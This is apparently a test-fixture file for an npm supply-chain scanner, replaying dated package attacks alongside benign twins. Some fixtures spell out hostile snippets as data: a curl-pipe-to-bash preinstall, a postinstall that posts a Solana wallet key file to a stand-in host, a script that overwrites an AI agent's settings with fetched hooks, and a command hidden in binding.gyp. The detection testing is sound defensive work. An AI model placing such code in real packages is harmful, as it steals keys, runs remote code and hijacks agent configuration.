// Attacks through packages of npm.
import { json, npmProject, type Replay } from './replay.ts';

const COMMIT = '79ac49eedf774dd4b0cfa308722bc463cfe5885c';
const manifest = (scripts: object): string => json({ name: 'app', version: '1.0.0', scripts });

export const NPM: readonly Replay[] = [
  {
    name: 'nx s1ngularity, August 2025: a minor release that now runs a script',
    base: npmProject({ nx: { version: '21.4.1' } }),
    attack: npmProject({ nx: { version: '21.5.0', hasInstallScript: true } }),
    because: ['HIGH PACKAGE-INSTALL-SCRIPT'],
    twin: npmProject({ nx: { version: '21.5.0' } }),
  },
  {
    name: 'Shai-Hulud, September 2025: a patch release of a colour library that runs a script',
    base: npmProject({ '@ctrl/tinycolor': { version: '4.1.0' } }),
    attack: npmProject({ '@ctrl/tinycolor': { version: '4.1.1', hasInstallScript: true } }),
    because: ['HIGH PACKAGE-INSTALL-SCRIPT'],
    twin: npmProject({ '@ctrl/tinycolor': { version: '4.1.1' } }),
  },
  {
    name: 'Shai-Hulud 2, November 2025: a script that fetches its own runtime before installation',
    base: { 'package.json': manifest({ test: 'vitest run' }) },
    attack: {
      'package.json': manifest({ test: 'vitest run', preinstall: 'node setup_bun.js' }),
      'setup_bun.js':
        "const { execSync } = require('child_process');\nexecSync('curl -fsSL https://bun.example.invalid/install | bash');\n",
    },
    because: ['HIGH HOOK-DANGEROUS-COMMAND'],
    twin: { 'package.json': manifest({ test: 'vitest run', lint: 'eslint .' }) },
  },
  {
    name: 'CanisterWorm, March 2026: a new package with a script, under a package that had none',
    base: npmProject({ emitter: { version: '2.0.0' } }),
    attack: npmProject({
      emitter: { version: '2.0.1', dependencies: { 'emitter-core': '^1.0.0' } },
      'emitter-core': { version: '1.0.0', hasInstallScript: true },
    }),
    because: ['HIGH PACKAGE-INSTALL-SCRIPT'],
    twin: npmProject({
      emitter: { version: '2.0.1', dependencies: { 'emitter-core': '^1.0.0' } },
      'emitter-core': { version: '1.0.0' },
    }),
  },
  {
    name: 'axios, March 2026: a patch release brings a package that runs a script',
    base: npmProject({ axios: { version: '1.14.0' } }),
    attack: npmProject({
      axios: { version: '1.14.1', dependencies: { 'plain-crypto-js': '^4.2.1' } },
      'plain-crypto-js': { version: '4.2.1', hasInstallScript: true },
    }),
    because: ['HIGH PACKAGE-INSTALL-SCRIPT'],
    twin: npmProject({ axios: { version: '1.14.1' } }),
  },
  {
    name: 'Mini Shai-Hulud, April 2026: a patch release of a build tool runs setup.mjs',
    base: npmProject({ mbt: { version: '1.2.47' } }),
    attack: npmProject({ mbt: { version: '1.2.48', hasInstallScript: true } }),
    because: ['HIGH PACKAGE-INSTALL-SCRIPT'],
    twin: npmProject({ mbt: { version: '1.2.48' } }),
  },
  {
    name: 'intercom-client 7.0.4, April 2026: a patch release of a client runs setup.mjs',
    base: npmProject({ 'intercom-client': { version: '7.0.2' } }),
    attack: npmProject({ 'intercom-client': { version: '7.0.4', hasInstallScript: true } }),
    because: ['HIGH PACKAGE-INSTALL-SCRIPT'],
    twin: npmProject({ 'intercom-client': { version: '7.0.4' } }),
  },
  {
    name: '@cap-js, April 2026: below a package that asks for it, one that now runs a script',
    base: npmProject({
      '@sap/cds-dk': { version: '9.0.0', dependencies: { '@cap-js/sqlite': '^2.2.0' } },
      '@cap-js/sqlite': { version: '2.2.1', dependencies: { '@cap-js/db-service': '^2.10.0' } },
      '@cap-js/db-service': { version: '2.10.0' },
    }),
    attack: npmProject({
      '@sap/cds-dk': { version: '9.0.0', dependencies: { '@cap-js/sqlite': '^2.2.0' } },
      '@cap-js/sqlite': {
        version: '2.2.2',
        dependencies: { '@cap-js/db-service': '^2.10.0' },
        hasInstallScript: true,
      },
      '@cap-js/db-service': { version: '2.10.1', hasInstallScript: true },
    }),
    because: ['HIGH PACKAGE-INSTALL-SCRIPT'],
    twin: npmProject({
      '@sap/cds-dk': { version: '9.0.0', dependencies: { '@cap-js/sqlite': '^2.2.0' } },
      '@cap-js/sqlite': { version: '2.2.2', dependencies: { '@cap-js/db-service': '^2.10.0' } },
      '@cap-js/db-service': { version: '2.10.1' },
    }),
  },
  {
    name: '@injectivelabs/sdk-ts, 2026: a client that sends the words of a wallet',
    base: { 'src/wallet.ts': 'export const sign = (words: string): string => words;\n' },
    attack: {
      'package.json': manifest({ postinstall: 'node lib/report.js' }),
      'lib/report.js': [
        "const fs = require('fs'), os = require('os'), path = require('path');",
        "const keys = fs.readFileSync(path.join(os.homedir(), '.config', 'solana', 'id.json'));",
        "fetch('https://keys.example.invalid/x', { method: 'POST', body: keys });",
        '',
      ].join('\n'),
    },
    because: ['MEDIUM HOOK-INSTALL-SCRIPT', 'HIGH CODE-CREDENTIAL-SENT'],
    twin: { 'package.json': manifest({ postinstall: 'husky' }) },
  },
  {
    name: 'TanStack, May 2026: an optional dependency from a commit that no branch has',
    base: npmProject({ '@tanstack/react-router': { version: '1.169.4' } }),
    attack: npmProject({
      '@tanstack/react-router': {
        version: '1.169.5',
        optionalDependencies: { '@tanstack/setup': `github:tanstack/router#${COMMIT}` },
      },
      '@tanstack/setup': {
        version: '1.0.0',
        resolved: `git+ssh://git@github.com/tanstack/router.git#${COMMIT}`,
        integrity: undefined,
        optional: true,
        hasInstallScript: true,
      },
    }),
    because: ['HIGH PACKAGE-GIT-SOURCE'],
    twin: npmProject({ '@tanstack/react-router': { version: '1.169.5' } }),
  },
  {
    name: 'Phantom Gyp, June 2026: a build description that runs a program while it is read',
    base: {
      'package.json': manifest({}),
      'binding.gyp': "{'targets':[{'target_name':'x','sources':['x.cc']}]}\n",
    },
    attack: {
      'binding.gyp':
        "{'targets':[{'target_name':'x','type':'none','sources':['<!(node index.js > /dev/null 2>&1 && echo stub.c)']}]}\n",
    },
    because: ['HIGH HOOK-GYP-COMMAND'],
    twin: { 'binding.gyp': "{'targets':[{'target_name':'x','sources':['x.cc', 'y.cc']}]}\n" },
  },
  {
    name: 'toga-ai, 2026: a package that sets up hooks of an agent',
    base: { 'package.json': manifest({}) },
    attack: {
      'package.json': manifest({ postinstall: 'node setup.js' }),
      'setup.js': [
        "const fs = require('fs'), os = require('os'), path = require('path');",
        "const target = path.join(os.homedir(), '.claude', 'settings.json');",
        "fetch('https://agents.example.invalid/hooks.json').then((r) => r.text()).then((t) => fs.writeFileSync(target, t));",
        '',
      ].join('\n'),
    },
    because: ['HIGH CODE-PERSISTENCE'],
    twin: { 'package.json': manifest({ build: 'tsc' }) },
  },
  {
    name: 'keyv, August 2026: a major release with provenance that runs a script',
    base: npmProject({ cacheable: { version: '2.0.0' }, keyv: { version: '5.5.0' } }),
    attack: npmProject({
      cacheable: { version: '2.0.1', dependencies: { keyv: '^6.0.0' } },
      keyv: { version: '6.0.0', hasInstallScript: true },
    }),
    because: ['HIGH PACKAGE-INSTALL-SCRIPT'],
    twin: npmProject({
      cacheable: { version: '2.0.1', dependencies: { keyv: '^6.0.0' } },
      keyv: { version: '6.0.0' },
    }),
  },
];
